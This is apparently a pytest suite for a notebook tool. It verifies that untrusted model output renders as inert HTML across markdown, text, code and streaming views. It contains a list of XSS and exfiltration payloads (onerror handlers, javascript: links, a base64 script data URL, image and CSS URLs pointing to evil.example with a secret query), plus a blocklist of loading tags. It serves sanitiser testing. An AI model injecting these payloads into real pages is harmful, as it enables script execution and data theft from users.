"""Untrusted output: nothing live, nothing that loads, through every render path."""

from html.parser import HTMLParser

import pytest

from mlx_notebook.engine import Request
from mlx_notebook.engine.events import Finished, Started, Stats, Token
from mlx_notebook.measure.compare import Comparison
from mlx_notebook.notebook.measure_views.compare import CompareRenderer
from mlx_notebook.notebook.views.markup import (
    ProgressiveMarkdown,
    code_html,
    markdown_html,
    text_html,
)
from mlx_notebook.notebook.views.render import ViewState

HOSTILE = [
    "![t](https://evil.example/p.png?q=secret)",
    "![ref][img]\n\n[img]: https://evil.example/q.png",
    '<img src=x onerror="alert(1)">',
    "<iframe src=https://evil.example></iframe>",
    "<video src=https://evil.example/v.mp4 autoplay></video>",
    "<audio src=x autoplay>",
    "<object data=x></object><embed src=x>",
    "<script>alert(1)</script>",
    "<style>body{background:url(https://evil.example/s)}</style>",
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    "<svg onload=alert(1)><image href=https://evil.example/i.png /></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<https://auto.example/link> and <javascript:alert(1)>",
    "[label][r]\n\n[r]: https://evil.example/ref",
    "[ok](https://fine.example/page)",
    "```html\n<img src=x onerror=alert(1)>\n```",
]
LOADING_TAGS = {
    "img", "iframe", "video", "audio", "source", "object", "embed", "script", "link",
    "meta", "base", "form", "input", "image", "svg", "a", "frame", "track", "picture",
}  # fmt: skip


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs, self.styles = [], [], 0

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, k, v) for k, v in attrs]
        self.styles += tag == "style"


def assert_inert(html: str, own_styles: int = 0):
    p = _Tags()
    p.feed(html)
    assert not LOADING_TAGS & set(p.tags), (set(p.tags) & LOADING_TAGS, html)
    for tag, k, v in p.attrs:
        assert not k.startswith("on"), (tag, k)
        assert k not in ("href", "src", "srcset", "poster", "background", "data", "action"), k
        assert "url(" not in (v or "") and "javascript:" not in (v or "").lower(), (tag, k, v)
    assert p.styles <= own_styles  # only our own stylesheet


ALL = "\n\n".join(HOSTILE)


@pytest.mark.parametrize("src", [*HOSTILE, ALL])
def test_markdown_is_inert(src):
    assert_inert(markdown_html(src))


def test_images_show_alt_and_url_as_text_and_links_show_their_target():
    out = markdown_html("See ![a chart](https://evil.example/p.png?q=1) and [docs](https://x.org)")
    assert "[image: a chart &lt;https://evil.example/p.png?q=1&gt;]" in out
    assert 'docs</span> <span class="mlxnb-href">&lt;https://x.org&gt;</span>' in out
    assert "<a " not in out


def test_markdown_keeps_every_line_break():
    poem = "Leaves fall slowly\nacross the quiet water\nautumn has arrived"
    out = markdown_html(poem)
    assert out.count("<br />") == 2


@pytest.mark.parametrize("final", [False, True])
def test_code_and_text_paths_are_inert(final):
    assert_inert(code_html(ALL, final=final))
    assert_inert(code_html(ALL, final=final, language="json"))
    assert_inert(text_html(ALL))


def test_json_is_highlighted_as_json_once_final():
    text = '{"name": "Ann", "age": 3, "ok": true}'
    live, done = code_html(text, final=False, language="json"), code_html(text, True, "json")
    assert "tok-" not in live and 'class="tok-nt"' in done  # JSON keys: name.tag
    assert 'class="tok-m' in done and 'class="tok-kc"' in done  # a number, a constant


def test_progressive_markdown_is_inert_at_every_prefix_and_ends_like_the_whole():
    pm = ProgressiveMarkdown()
    for i in range(0, len(ALL), 7):
        assert_inert(pm.render(ALL[:i]))
    text = "# Title\n\nPara one\nline two\n\n```py\nx = 1\n\ny = 2\n```\n\n- a\n- b\n"
    pm = ProgressiveMarkdown()
    for i in range(1, len(text) + 1):
        pm.render(text[:i])
    assert pm.render(text) == markdown_html(text)


def _view(fmt, reason, highlight=False, pieces=None):
    st = ViewState(model="m", mode="lookup", k=3, fmt=fmt, highlight_drafts=highlight)
    st.apply(Started())
    pieces = pieces or [ALL[i : i + 9] for i in range(0, len(ALL), 9)]
    for i, p in enumerate(pieces):
        st.apply(Token(p, i, i % 2 == 0, i))
    mid = st.html()
    err = "bad <img src=x onerror=1>" if reason == "error" else None
    st.apply(Finished("".join(pieces), reason, error=err, stats=Stats(generation_tokens=3)))
    return mid, st.html(), st


@pytest.mark.parametrize("fmt", ["markdown", "text", "code"])
@pytest.mark.parametrize("reason", ["stop", "length", "cancelled", "error"])
@pytest.mark.parametrize("highlight", [False, True])
def test_every_view_state_is_inert(fmt, reason, highlight):
    mid, final, _ = _view(fmt, reason, highlight)
    assert_inert(mid, own_styles=1)
    assert_inert(final, own_styles=1)


def test_compare_view_is_inert():
    r = CompareRenderer(Comparison(None, Request("x", draft="lookup"), repeats=1), fmt="text")
    for index in r.columns:  # the first measured pair
        r.apply_from(index, Started())
        r.apply_from(index, Token(ALL, 1, index == r.columns[1], 0))
        r.apply_from(index, Finished(ALL, "length"))
    assert_inert(r.html(), own_styles=1)
    assert ALL in r.plain()


@pytest.mark.parametrize("fmt", ["markdown", "text", "code"])
@pytest.mark.parametrize("reason", ["length", "cancelled"])
def test_stopped_and_finished_render_the_same_way(fmt, reason):
    pieces = ["Line one\n", "line two\n\n", "Para **two**"]
    _, final, st = _view(fmt, reason, pieces=pieces)
    _, other, _ = _view(fmt, "length" if reason == "cancelled" else "cancelled", pieces=pieces)
    body = final.split('<div class="stats">')[0].split("</div>", 1)[1]
    other_body = other.split('<div class="stats">')[0].split("</div>", 1)[1]
    assert body == other_body
    assert st.text in st.plain()


def test_map_view_is_inert_while_running_and_done():
    from mlx_notebook.mapping.mapper import MapRun
    from mlx_notebook.notebook.magics.over import MapRenderer

    class Backend:
        def check(self, request):
            pass

    run = MapRun(Backend(), [ALL, "ok"])
    r = MapRenderer(run, "default", "markdown", [])
    for i in (0, 1):
        r.apply_from(i, Started())
        r.apply_from(i, Token(ALL, 1, False, 0))
    assert_inert(r.html(), own_styles=1)  # the preview
    for i in (0, 1):
        r.apply_from(i, Finished(ALL, "length"))
    assert_inert(r.html(), own_styles=1)  # the table of every row
    assert r.plain().count(ALL) >= 2


def test_fenced_code_naming_its_language_is_highlighted_and_escaped():
    from mlx_notebook.notebook.views.markup import markdown_html

    html = markdown_html('```python\ndef f(): return "<img src=x onerror=y>"\n```\n```zz\n<b>\n```')
    assert '<span class="tok-k">def</span>' in html and "&lt;img src=x" in html
    assert "<img" not in html and "&lt;b&gt;" in html  # an unknown language: escaped text
